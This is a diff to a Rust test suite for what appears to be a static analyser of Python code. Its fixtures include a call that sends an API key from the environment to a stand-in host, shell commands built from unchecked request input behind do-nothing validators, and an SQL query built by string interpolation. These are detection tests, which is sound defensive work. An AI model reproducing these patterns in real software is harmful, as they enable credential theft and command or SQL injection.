@@ -174,14 +174,78 @@ fn hostile_texts_end() {
 }
 
 #[test]
-fn running_out_of_fuel_is_said() {
-    let nested = format!(
-        "x = 0\n{}{}y = x\n",
-        (0..40)
-            .map(|i| format!("{}while c{i}():\n", " ".repeat(i)))
-            .collect::<String>(),
-        " ".repeat(40)
+fn what_is_not_followed_is_said() {
+    let deep = format!("x = {}1{}", "f(".repeat(390), ")".repeat(390));
+    let many = (0..90)
+        .map(|i| format!("get('https://h{i}.example')\n"))
+        .collect::<String>();
+    let many = format!("import requests\ndef get(u):\n    return requests.get(u)\n{many}");
+    for code in [format!("{}{}", "(".repeat(5_000), ")".repeat(5_000)), many] {
+        assert!(!run(Python, &code).unchecked.is_empty(), "{}", &code[..60]);
+    }
+    assert!(
+        run(Python, &deep).unchecked.is_empty(),
+        "four hundred levels are followed"
     );
-    let analysis = run(Python, &nested);
-    assert!(analysis.steps < 9_000_000);
+}
+
+#[test]
+fn another_host_is_seen_however_often_a_helper_is_called() {
+    let calls = (0..30)
+        .map(|i| format!("get('https://h.example/{i}')\n"))
+        .collect::<String>();
+    let code = format!(
+        "import requests, os\ndef get(u):\n    return requests.get(u)\n{calls}get('https://other.example/' + os.environ['API_KEY'])\n"
+    );
+    let analysis = run(Python, &code);
+    let sent = analysis
+        .effects
+        .iter()
+        .find(|e| e.target.text() == "other.example")
+        .expect("the other host");
+    assert!(sent.data.has(Label::Credential), "{}", show(sent));
+}
+
+#[test]
+fn a_validator_that_lets_everything_through_is_not_believed() {
+    let bad = "import os, re\nfrom flask import request\nc = request.args['c']\n";
+    for test in [
+        "if not is_valid(c):\n    raise ValueError()\n",
+        "if not re.match('.*', c):\n    raise ValueError()\n",
+    ] {
+        let code = format!("{bad}def is_valid(x):\n    return True\n{test}os.system('x ' + c)\n");
+        let effect = only(Python, &code, EffectKind::Process);
+        assert!(
+            !effect.role("command").unwrap().clean.has(Sink::Shell),
+            "{test}"
+        );
+    }
+    let good = format!(
+        "{bad}if not re.fullmatch('[a-z]+', c):\n    raise ValueError()\nos.system('x ' + c)\n"
+    );
+    assert!(
+        only(Python, &good, EffectKind::Process)
+            .role("command")
+            .unwrap()
+            .clean
+            .has(Sink::Shell)
+    );
+}
+
+#[test]
+fn a_built_statement_is_seen_whoever_runs_it() {
+    let effect = only(
+        Python,
+        "def f(self, n):\n    return self._run(\"SELECT a FROM t WHERE n='%s'\" % n)\n",
+        EffectKind::Sql,
+    );
+    assert!(effect.data.has(Label::Parameter));
+    for harmless in [
+        "log('SELECT a FROM t WHERE n=' + n)",
+        "show('select one from ' + n)",
+        "self._run('SELECT a FROM t WHERE n=?', n)",
+    ] {
+        let analysis = run(Python, &format!("def f(self, n):\n    {harmless}\n"));
+        assert!(analysis.effects.is_empty(), "{harmless}");
+    }
 }
